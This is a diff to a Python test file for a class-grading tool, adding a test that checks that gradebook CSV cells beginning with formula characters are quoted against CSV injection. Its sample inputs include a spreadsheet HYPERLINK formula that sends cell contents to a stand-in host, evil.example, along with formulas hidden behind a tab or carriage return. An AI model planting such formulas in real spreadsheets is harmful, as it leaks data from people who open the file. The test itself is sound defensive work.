@@ -10,7 +10,7 @@ from pathlib import Path
 import pytest
 
 from grader import __main__ as cli
-from grader.batch import grade_class, is_class_folder, submission_entries, unique_names
+from grader.batch import Row, grade_class, is_class_folder, submission_entries, unique_names, write_gradebook
 from grader.grade import GradeOptions, grade_submission
 
 REPO = Path(__file__).resolve().parents[2]
@@ -58,6 +58,21 @@ def test_a_class_gets_a_gradebook_an_index_and_a_folder_per_student(klass: Path,
     assert 'href="alice/report.html"' in index and "attention:function_mask" in index and "3 / 4" in index
     assert "unreadable: 1" in index
     assert "gradebook.csv" in capsys.readouterr().out
+
+
+def test_gradebook_text_cells_a_spreadsheet_would_run_are_quoted_and_numbers_stay_numbers(tmp_path: Path) -> None:
+    """CSV injection: a student names their submission as a formula, or hides one behind a tab or
+    a CR that a spreadsheet strips; every text cell starting with = + - @ tab CR is shown as text."""
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"see grades")', "\t=1+1", "\r=1+1", "+1+1", "-1+1", "@SUM(A1:A9)"]
+    rows = [Row(name, "ok", 22.0, 22.0, {"attention": 4.0}) for name in hostile]
+    rows.append(Row("alice", "ok", -1.0, 22.0, {"attention": -0.5}, mnist_accuracy=0.951, seconds=3.25))
+    write_gradebook(rows, tmp_path)
+    with open(tmp_path / "gradebook.csv", newline="") as f:
+        header, *cells = list(csv.reader(f))
+    assert [row[0] for row in cells] == ["'" + name for name in hostile] + ["alice"]
+    alice = dict(zip(header, cells[-1]))
+    assert (alice["total"], alice["attention"], alice["mnist_accuracy"], alice["seconds"]) == ("-1", "-0.5", "95.10", "3.25")
+    assert {row[header.index("status")] for row in cells} == {"ok"}
 
 
 def test_a_rerun_grades_only_what_changed_and_resumes_a_batch(klass: Path, tmp_path: Path, capsys) -> None:
